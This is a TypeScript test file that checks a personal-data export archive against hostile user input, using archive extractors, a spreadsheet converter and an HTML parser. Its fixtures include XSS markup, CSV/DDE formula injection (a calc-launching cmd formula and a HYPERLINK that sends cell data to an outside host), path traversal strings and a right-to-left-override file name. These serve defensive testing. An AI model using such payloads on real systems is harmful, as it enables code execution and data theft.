import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { buffer } from 'node:stream/consumers'
import { gunzipSync } from 'node:zlib'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { testDatabase } from '#db/test-database.ts'
import { markedPerson } from '#db/test-person.ts'
import { archivePages } from '#worker/archive-pages.ts'
import { findReader, type ReaderName } from '../../scripts/readers.ts'
import { filesIn, signedIn, testStore } from '../../scripts/test/archive.ts'
import { columnOf } from '../keep.ts'
import { line, lines } from '../plain-text.ts'
import { keys } from '../stores/keys.ts'
import { categories } from '../vocabulary.ts'
import { askExport } from './ask-export.ts'
import { buildExport } from './build-export.ts'
import { fetchExport } from './fetch-export.ts'
import { personTables } from './person-tables.ts'

const db = await testDatabase()
const { folder: kept, store } = testStore()
const room = mkdtempSync(path.join(tmpdir(), 'forthright-readers-'))
afterAll(() => [room, kept].forEach((folder) => rmSync(folder, { recursive: true })))

const markup = `<script>pwned()</script><img src=x onerror=pwned()>" onfocus="pwned()" autofocus x='--></title></style></bdi></td>\u202Egnp.exe`
const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1+1)', `=cmd|' /C calc'!A0`, '=HYPERLINK("https://x.example/?"&A1,"1+1")', '",\r\n=1+1']
const starts = ['', '=', "'", '"', ',', '\\.\n', '\u0001', '\u202E', 'javascript:pwned()//', '../../x', '/etc/x', 'C:\\x', '\\\\host\\x']
const hostile = [...formulas, ...starts.map((start) => start + markup)]

/** A person of whom every text says something hostile, each something else, and of whose posts and calls each says one of them. */
async function hostilePerson(): Promise<string> {
  const person = await markedPerson(db.admin, `=${markup}`)
  // Any would do to begin with; from some of them Gnumeric guesses another delimiter for one sheet, and finds a cell too many.
  let next = 5
  for (const table of personTables()) {
    const texts = table.columns.filter(({ key, sqlType }) => sqlType === 'text' && !columnOf(table.name, key).enumValues?.length && !(key in read))
    if (['audit', 'auditTrails'].includes(table.name) || texts.length === 0) continue
    const values = texts.map(() => hostile[next++ % hostile.length])
    await db.query(`update ${table.sqlName} set ${texts.map(({ sqlName }, i) => `${sqlName} = $${i + 2}`).join(', ')} where ${table.owner} = $1`, [person, ...values])
  }
  await db.query(`insert into posts (person_id, title, words) select $1, text, text from unnest($2::text[]) text`, [person, [...hostile, long]])
  await db.query(`insert into calls (person_id, application_id, at, direction, other_party, seconds, status) select $1, a.id, now(), 'in', text, 1, text from unnest($2::text[]) text, applications a where a.person_id = $1`, [person, hostile])
  return person
}
/** What the machinery itself goes by while it builds. */
const read: Record<string, true> = { locale: true, stage: true }
const long = '=1+1,"<b>\r\n'.repeat(100_000)

async function archiveOf(person: string): Promise<Buffer> {
  // What was asked for before is in words that the portal itself writes.
  await db.query(`update exports set state = 'expired', categories = '{contact}', formats = '{csv}' where person_id = $1`, [person])
  await db.query(`update export_repeats set categories = '{contact}', formats = '{csv}' where person_id = $1`, [person])
  const id = await askExport(signedIn(person), { categories: [...categories] })
  await buildExport({ kind: 'worker', task: 'export' }, { id, store, keys: keys(), pages: archivePages })
  const file = await fetchExport(signedIn(person), { id, part: 1, ip: null, store })
  return buffer(file.open({ start: 0, end: file.bytes }))
}

const zip = path.join(room, 'archive.zip')
let files: Map<string, Buffer>
let plain: Map<string, Buffer>
beforeAll(async () => {
  const bytes = await archiveOf(await hostilePerson())
  writeFileSync(zip, bytes)
  files = await filesIn(bytes)
  plain = await filesIn(await archiveOf(await markedPerson(db.admin, 'plain')))
})

const run = (name: ReaderName, args: readonly string[]): string => execFileSync(findReader(name)!, args, { cwd: room, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], maxBuffer: 64 << 20 })

test('whatever somebody writes, the names in their archive are ours', () => {
  for (const name of files.keys()) expect(name).toMatch(/^(?:[a-z]+\.(?:html|json|sig|vcf)|files\/FR-\d+-\d+\.(?:pdf|jpg|png|tif|txt)|[a-z-]+\/[A-Za-z]+(?:-\d+)?(?:\.schema)?\.(?:csv|json|har|html))$/)
  // Each has requests of their own.
  const unnumbered = (all: Map<string, Buffer>) => [...all.keys()].map((name) => name.replace(/FR-\d+/, 'FR-'))
  expect(unnumbered(files)).toEqual(unnumbered(plain))
  expect(files.get('json/posts.json')!.length).toBeGreaterThan(1_000_000)
})

const readers: [ReaderName, test?: readonly string[], open?: (into: string) => readonly string[]][] = [
  ['unzip', ['-tq', zip], (into) => ['-q', zip, '-d', into]],
  ['7z', ['t', zip], (into) => ['x', `-o${into}`, zip]],
  ['bsdtar', ['-tf', zip], (into) => ['-xf', zip, '-C', into]],
  ['python3', ['-m', 'zipfile', '-t', zip], (into) => ['-m', 'zipfile', '-e', zip, into]],
]

for (const [name, check, open] of readers)
  test.skipIf(!findReader(name))(`${name} finds the archive whole and opens the same files, byte by byte, and nothing beside them`, () => {
    const around = path.join(room, name)
    const into = path.join(around, 'opened')
    mkdirSync(into, { recursive: true })
    run(name, check!)
    run(name, open!(into))
    const found = readdirSync(around, { recursive: true, withFileTypes: true }).filter((entry) => !entry.isDirectory())
    expect(found.every((entry) => entry.isFile())).toBe(true)
    expect(found.map((entry) => path.relative(into, path.join(entry.parentPath, entry.name))).toSorted()).toEqual([...files.keys()].toSorted())
    for (const [file, bytes] of files) expect(readFileSync(path.join(into, file)).equals(bytes), file).toBe(true)
  })

test.skipIf(!findReader('ssconvert'))('ssconvert, a spreadsheet, finds a text wherever a text is hostile, and no formula but one that was not made harmless', () => {
  const raw = path.join(room, 'raw.csv')
  writeFileSync(raw, 'a\r\n=2+2\r\n')
  const csv = [...files].filter(([name]) => name.startsWith('csv/'))
  const sheets = csv.map(([name, bytes]) => {
    const sheet = path.join(room, path.basename(name))
    writeFileSync(sheet, bytes)
    return sheet
  })
  run('ssconvert', ['--import-type=Gnumeric_stf:stf_csvtab', '--import-encoding=UTF-8', '--merge-to=book.gnumeric', raw, ...sheets])
  const book = [...gunzipSync(readFileSync(path.join(room, 'book.gnumeric'))).toString('utf8').matchAll(/<gnm:Cell ([^>]*?)(?:\/>|>([^<]*)<)/g)]
  // A cell of no type is an expression.
  expect(book.filter(([, attributes]) => !attributes!.includes('ValueType=')).map(([, , text]) => text)).toEqual(['=2+2'])
  const isHostile = (text = ''): boolean => text.includes('pwned') || text.includes('1+1')
  const written = csv.flatMap(([, bytes]) => parse(bytes, { bom: true, record_delimiter: '\r\n' }).flat()).filter(isHostile)
  expect(book.filter(([, attributes, text]) => attributes!.includes('ValueType="60"') && isHostile(text))).toHaveLength(written.length)
  expect(written.length).toBeGreaterThan(150)
})

/** Says of each page which elements with which attributes it has, which values of attributes, which scripts and styles. */
const look = `
import html.parser, json, pathlib, sys
class Look(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.values, self.raw, self.inside = set(), set(), {'script': set(), 'style': set()}, None
    def handle_starttag(self, tag, attrs):
        self.tags.update([tag, *(tag + '[' + name + ']' for name, _ in attrs)])
        self.values.update(value or '' for _, value in attrs)
        self.inside = self.raw.get(tag)
    def handle_endtag(self, tag):
        self.inside = None
    def handle_data(self, data):
        if self.inside is not None: self.inside.add(data)
look = Look()
for page in sorted(pathlib.Path(sys.argv[1]).rglob('*.html')):
    look.feed(page.read_text('utf-8'))
print(json.dumps({'tags': sorted(look.tags), 'values': sorted(look.values), 'scripts': sorted(look.raw['script']), 'styles': sorted(look.raw['style'])}))
`

test.skipIf(!findReader('python3'))('python3 reads no element, attribute or script in the pages that the pages of an innocent have not', () => {
  const seen = (name: string, archive: ReadonlyMap<string, Buffer>) => {
    for (const [file, bytes] of archive) {
      if (!file.endsWith('.html')) continue
      mkdirSync(path.join(room, name, path.dirname(file)), { recursive: true })
      writeFileSync(path.join(room, name, file), bytes)
    }
    return JSON.parse(run('python3', ['-c', look, path.join(room, name)])) as Record<'tags' | 'values' | 'scripts' | 'styles', string[]>
  }
  const [ours, theirs] = [seen('innocent', plain), seen('hostile', files)]
  // Text that is no plain letters stands apart.
  expect(theirs.tags.filter((tag) => !ours.tags.includes(tag) && tag !== 'bdi')).toEqual([])
  expect(theirs.scripts).toEqual(ours.scripts)
  expect([...theirs.values, ...theirs.styles].filter((value) => /pwned|1\+1|\.\.\/\.\.\/|etc\/x|gnp/.test(value))).toEqual([])
  expect([...files].filter(([file]) => file.endsWith('.html')).map(([, bytes]) => bytes.toString('utf8')).join('\n')).toContain('&lt;script&gt;pwned()')
})

test('a NUL gets nowhere: what is typed is refused in words, and the database takes none', async () => {
  expect(line(80).safeParse('a\u0000b').error?.issues[0]?.message).toBe('notPlainText')
  expect(lines(80).safeParse('a\u0000b').error?.issues[0]?.message).toBe('hiddenCharacters')
  const person = await db.person()
  await expect(db.query('update profiles set organisation = $2 where person_id = $1', [person, 'a\u0000b'])).rejects.toThrow('invalid byte sequence for encoding "UTF8": 0x00')
})
